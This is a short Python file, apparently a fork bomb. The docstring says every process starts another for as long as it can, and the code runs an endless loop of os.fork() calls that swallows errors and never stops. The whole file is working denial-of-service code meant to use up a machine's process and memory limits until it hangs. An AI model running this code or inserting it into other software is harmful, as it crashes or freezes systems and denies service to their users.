# mypy: ignore-errors
# ruff: noqa
"""Every process starts another for as long as it can."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
